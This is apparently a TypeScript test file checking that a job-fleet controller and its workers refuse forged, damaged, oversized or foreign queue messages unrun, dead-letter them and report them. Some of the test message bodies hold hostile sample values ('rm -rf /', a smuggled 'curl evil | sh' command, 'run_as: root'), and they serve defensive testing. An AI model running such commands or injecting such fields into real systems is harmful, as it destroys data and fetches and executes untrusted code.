/**
 * Work messages the fleet's controller did not write (forged, damaged, too large, or naming a
 * job other than the manifest's) are never run: a worker moves each to the dead-letter queue at
 * once with the reason, the controller reports it, no result is stored under the job id it names,
 * and the fleet completes with its own jobs. A controller and real workers in one process, on
 * the in-memory SQS and S3 with the `local` sandbox and the `test` policy.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { inspectFleet, runFleet } from '../../src/fleet/controller.js';
import { MemoryJobQueue } from '../../src/fleet/memory-job-queue.js';
import { MemoryResultStore } from '../../src/fleet/memory-result-store.js';
import { SQS_MAX_BODY_BYTES } from '../../src/fleet/memory-sqs.js';
import { MAX_MESSAGE_BYTES, PROTOCOL_VERSION, type AttemptRecord, type Job } from '../../src/fleet/protocol.js';
import { backstopReceiveCount } from '../../src/fleet/types.js';
import { inProcessLauncher, manifestOf, options, world } from './helpers/in-process-fleet.js';

describe('forged or oversized work messages', () => {
  test('each kind is refused unrun, dead-lettered with its reason and reported; the fleet completes with its own jobs', async () => {
    const w = world();
    const m = manifestOf(w, 2);
    const [j1, j2] = m.jobs as [Job, Job];
    const queue = new MemoryJobQueue(w.sqs, m.fleet_id, w.config.fleet.queue_prefix);
    // The queues as the controller makes them, so the forged messages wait ahead of the real ones.
    await queue.create({ visibilityTimeoutSeconds: 30, maxReceiveCount: backstopReceiveCount(3) });
    const msg = (o: Record<string, unknown>) => JSON.stringify({ version: PROTOCOL_VERSION, fleet_id: m.fleet_id, ticket: 1, attempts: 0, history: [], ...o });
    const foreignId = 'notes_app.create_greeting.e99';
    const cases: Array<{ kind: string; body: string; reason: RegExp; jobId?: string }> = [
      { kind: 'not JSON', body: 'rm -rf / # not a job', reason: /not JSON/ },
      { kind: 'another protocol version', body: JSON.stringify({ version: 99, fleet_id: m.fleet_id, job: j1, ticket: 1 }), reason: /protocol version 99/, jobId: j1.job_id },
      { kind: 'an unknown top-level field', body: msg({ job: j1, run_as: 'root' }), reason: /invalid message: .*run_as/, jobId: j1.job_id },
      { kind: 'an unknown job field', body: msg({ job: { ...j1, command: 'curl evil | sh' } }), reason: /invalid message: job/, jobId: j1.job_id },
      { kind: 'a monitor input on an eval job', body: msg({ job: { ...j1, input: 0 } }), reason: /invalid message: job/, jobId: j1.job_id },
      { kind: 'a body near 256 KB', body: msg({ job: { ...j1, sample_id: 'x'.repeat(250_000) } }), reason: new RegExp(`bytes, more than the ${MAX_MESSAGE_BYTES}`), jobId: j1.job_id },
      { kind: 'a job id not in the manifest', body: msg({ job: { ...j1, job_id: foreignId, epoch: 99 } }), reason: /job notes_app\.create_greeting\.e99 is not in the fleet's manifest/, jobId: foreignId },
      { kind: 'another sample under a real job id', body: msg({ job: { ...j1, sample_id: 'notes_app:other' } }), reason: /differs from the manifest's job of that id \(sample_id: "notes_app:other", manifest "notes_app:create_greeting"\)/, jobId: j1.job_id },
      { kind: 'another epoch under a real job id', body: msg({ job: { ...j2, epoch: 7 } }), reason: /differs from the manifest's job of that id \(epoch: 7, manifest 2\)/, jobId: j2.job_id },
      { kind: 'another fleet', body: msg({ fleet_id: 'otherfleet', job: j1 }), reason: /a job of fleet otherfleet, not /, jobId: j1.job_id },
      { kind: 'attempts spent', body: msg({ job: j2, attempts: 3 }), reason: /claims 3 attempt\(s\) spent, but the fleet allows 3/, jobId: j2.job_id },
      { kind: 'a dead-letter record on a work message', body: msg({ job: j2, dead: { reason: 'x', attempts: 1 } }), reason: /carrying a dead-letter record/, jobId: j2.job_id },
      { kind: 'a generation no controller queued', body: msg({ job: j2, ticket: 99 }), reason: /generation 99 is newer than any a controller of this fleet queued \(1\)/, jobId: j2.job_id },
    ];
    for (const c of cases) w.sqs.send(queue.names.workQueue, c.body);
    // Over SQS's own limit a message cannot be sent at all (as on AWS).
    assert.throws(() => w.sqs.send(queue.names.workQueue, 'x'.repeat(SQS_MAX_BODY_BYTES + 1)), /InvalidParameterValue/);

    const workers = inProcessLauncher(w, m.fleet_id);
    const notes: string[] = [];
    const store = new MemoryResultStore(w.bucket, m.fleet_id);
    const r = await runFleet(options(w, m, workers.launcher, await inspectFleet(store, m), undefined, notes));
    await Promise.all(workers.runs);

    // The fleet's own jobs: each run once, each a clean result.
    assert.equal(r.end, 'complete', notes.join('\n'));
    assert.deepEqual(r.merge!.rows.map((x) => [x.jobId, x.error ?? null]).sort(), [[j1.job_id, null], [j2.job_id, null]]);
    assert.deepEqual(workers.starts().map((l) => /job (\S+) started/.exec(l)![1]).sort(), [j1.job_id, j2.job_id], workers.lines.join('\n'));
    assert.equal(r.dead.length, 0);
    // Nothing stored under a job id the manifest does not have.
    assert.deepEqual((await store.listResultIds()).ids.sort(), [j1.job_id, j2.job_id]);
    assert.equal(await store.hasResult(foreignId), false);

    // Every forged message: refused by a worker, on the DLQ with its reason, reported once.
    assert.equal(r.rejected.length, cases.length, JSON.stringify(r.rejected.map((x) => x.reason), null, 1));
    for (const c of cases) {
      const got = r.rejected.filter((x) => x.excerpt === c.body.slice(0, 500));
      assert.equal(got.length, 1, `${c.kind}: reported once`);
      assert.match(got[0]!.reason, c.reason, c.kind);
      assert.match(got[0]!.worker ?? '', /^w\d$/, `${c.kind}: refused by a worker, which dead-lettered it`);
      assert.equal(got[0]!.job_id, c.jobId, `${c.kind}: the job id it named`);
      assert.equal(got[0]!.bytes, Buffer.byteLength(c.body));
    }
    assert.equal(workers.lines.filter((l) => /not run \(receive 1\): .*moved to the dead-letter queue/.test(l)).length, cases.length, 'each refused on its first receive');
    assert.equal(notes.filter((n) => /refused unrun and dead-lettered/.test(n)).length, cases.length);
    const events = readFileSync(join(w.config.log_dir, 'fleet', m.fleet_id, 'events.jsonl'), 'utf8');
    assert.equal((events.match(/"event":"rejected_message"/g) ?? []).length, cases.length);
  });

  test("a DLQ entry naming a job the manifest does not have, or another job under a real id, gets no result (SQS's backstop path)", async () => {
    const w = world();
    const m = manifestOf(w, 1);
    const [j1] = m.jobs as [Job];
    const queue = new MemoryJobQueue(w.sqs, m.fleet_id, w.config.fleet.queue_prefix);
    await queue.create({ visibilityTimeoutSeconds: 30, maxReceiveCount: backstopReceiveCount(3) });
    const base = { version: PROTOCOL_VERSION, fleet_id: m.fleet_id, ticket: 1, attempts: 3, history: [] as AttemptRecord[] } as const;
    await queue.deadLetter({ ...base, job: { ...j1, job_id: 'not.in.manifest' }, dead: { reason: 'boom', attempts: 3 } });
    await queue.deadLetter({ ...base, job: { ...j1, epoch: 5 }, dead: { reason: 'boom', attempts: 3 } });
    const workers = inProcessLauncher(w, m.fleet_id);
    const store = new MemoryResultStore(w.bucket, m.fleet_id);
    const r = await runFleet(options(w, m, workers.launcher, await inspectFleet(store, m)));
    await Promise.all(workers.runs);
    assert.equal(r.end, 'complete');
    assert.equal(r.dead.length, 0, 'a forged dead letter does not kill the real job');
    assert.deepEqual(r.merge!.rows.map((x) => [x.jobId, x.error ?? null]), [[j1.job_id, null]]);
    assert.deepEqual((await store.listResultIds()).ids, [j1.job_id]);
    assert.deepEqual(r.rejected.map((x) => [x.job_id, x.worker ?? null]).sort(), [['not.in.manifest', null], [j1.job_id, null]]);
    assert.match(r.rejected.find((x) => x.job_id === 'not.in.manifest')!.reason, /not in the fleet's manifest/);
    assert.match(r.rejected.find((x) => x.job_id === j1.job_id)!.reason, /epoch: 5, manifest 1/);
  });

  test('forged done messages end no job: an `ok` without a stored result, another fleet, a job not in the manifest, damage', async () => {
    const w = world();
    const m = manifestOf(w, 2);
    const [j1, j2] = m.jobs as [Job, Job];
    const queue = new MemoryJobQueue(w.sqs, m.fleet_id, w.config.fleet.queue_prefix);
    await queue.create({ visibilityTimeoutSeconds: 30, maxReceiveCount: backstopReceiveCount(3) });
    const done = (o: Record<string, unknown>) => JSON.stringify({ version: PROTOCOL_VERSION, fleet_id: m.fleet_id, status: 'ok', attempt: 1, worker: 'w9', seconds: 1, ...o });
    const cases: Array<{ body: string; reason: RegExp; jobId?: string }> = [
      { body: done({ job_id: j1.job_id, key: `${m.fleet_id}/${j1.job_id}.eval` }), reason: new RegExp(`says job ${j1.job_id.replace(/\./g, '\\.')} is done, but no result of it is stored`), jobId: j1.job_id },
      { body: done({ job_id: j2.job_id, fleet_id: 'otherfleet' }), reason: /names fleet otherfleet/, jobId: j2.job_id },
      { body: done({ job_id: 'not.in.manifest' }), reason: /job not\.in\.manifest is not in the manifest/, jobId: 'not.in.manifest' },
      { body: '{"status": "ok", "job_id": 1', reason: /^done message: /, jobId: undefined },
      // A worker's concurrency report counts only for its own fleet, and only well-formed.
      { body: JSON.stringify({ version: PROTOCOL_VERSION, fleet_id: 'otherfleet', status: 'concurrency', worker: 'w9', concurrency: { from: 2, to: 40, reason: 'clean_finish' } }), reason: /names fleet otherfleet/, jobId: undefined },
      { body: JSON.stringify({ version: PROTOCOL_VERSION, fleet_id: m.fleet_id, status: 'concurrency', worker: 'w9', concurrency: { from: 2, to: 0, reason: 'clean_finish' } }), reason: /invalid message: concurrency\.to/, jobId: undefined },
    ];
    for (const c of cases) w.sqs.send(queue.names.doneQueue, c.body);
    const workers = inProcessLauncher(w, m.fleet_id);
    const notes: string[] = [];
    const store = new MemoryResultStore(w.bucket, m.fleet_id);
    const r = await runFleet(options(w, m, workers.launcher, await inspectFleet(store, m), undefined, notes));
    await Promise.all(workers.runs);
    assert.equal(r.end, 'complete', notes.join('\n'));
    // Both jobs ran and merged with their own results: the forged `ok` did not end j1 early.
    assert.deepEqual(r.merge!.rows.map((x) => [x.jobId, x.error ?? null]).sort(), [[j1.job_id, null], [j2.job_id, null]]);
    assert.deepEqual(workers.starts().map((l) => /job (\S+) started/.exec(l)![1]).sort(), [j1.job_id, j2.job_id]);
    assert.equal(r.rejected.length, cases.length, JSON.stringify(r.rejected, null, 1));
    for (const c of cases) {
      const got = r.rejected.filter((x) => x.excerpt === c.body);
      assert.equal(got.length, 1, c.body);
      assert.match(got[0]!.reason, c.reason);
      assert.match(got[0]!.reason, /^done message: /);
      assert.equal(got[0]!.job_id, c.jobId);
    }
    assert.equal(notes.filter((n) => /a done message was ignored/.test(n)).length, cases.length);
  });
});
